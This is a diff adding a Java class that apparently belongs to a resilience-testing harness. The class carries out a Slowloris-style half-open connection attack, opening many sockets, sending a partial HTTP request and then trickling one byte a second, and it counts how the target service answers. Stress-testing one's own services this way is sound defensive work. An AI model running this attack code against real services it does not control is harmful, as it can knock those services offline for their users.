@@ -1,0 +1,65 @@
+package dev.storescope.attack;
+
+import java.io.IOException;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.Iterator;
+import java.util.List;
+
+/** Opens connections, sends a part of a request and then a byte a second. */
+record HalfOpenConnections(int connections) implements Attack {
+  private static final byte[] PART =
+      "GET /api/countries HTTP/1.1\r\nHost: a\r\nX-".getBytes(StandardCharsets.US_ASCII);
+  private static final long PAUSE_MILLIS = 1_000;
+
+  @Override
+  public String name() {
+    return "%,d half-open requests".formatted(connections);
+  }
+
+  @Override
+  public void run(AttackedService target, AnswerCounts answers, Deadline end)
+      throws InterruptedException {
+    List<Socket> open = new ArrayList<>();
+    RawRequest request = new RawRequest(target.uri());
+    for (int i = 0; i < connections && !end.isOver(); i++) {
+      try {
+        Socket socket = request.connect();
+        socket.getOutputStream().write(PART);
+        open.add(socket);
+      } catch (IOException e) {
+        answers.add(AnswerCounts.CLOSED);
+      }
+    }
+    while (!end.isOver()) {
+      sendByte(open, answers);
+      end.pause(PAUSE_MILLIS);
+    }
+    for (Socket socket : open) {
+      answers.add(AnswerCounts.NO_ANSWER);
+      closeQuietly(socket);
+    }
+  }
+
+  private static void sendByte(List<Socket> open, AnswerCounts answers) {
+    for (Iterator<Socket> each = open.iterator(); each.hasNext(); ) {
+      Socket socket = each.next();
+      try {
+        socket.getOutputStream().write('a');
+      } catch (IOException e) {
+        answers.add(AnswerCounts.CLOSED);
+        closeQuietly(socket);
+        each.remove();
+      }
+    }
+  }
+
+  private static void closeQuietly(Socket socket) {
+    try {
+      socket.close();
+    } catch (IOException e) {
+      // The service closed it first.
+    }
+  }
+}
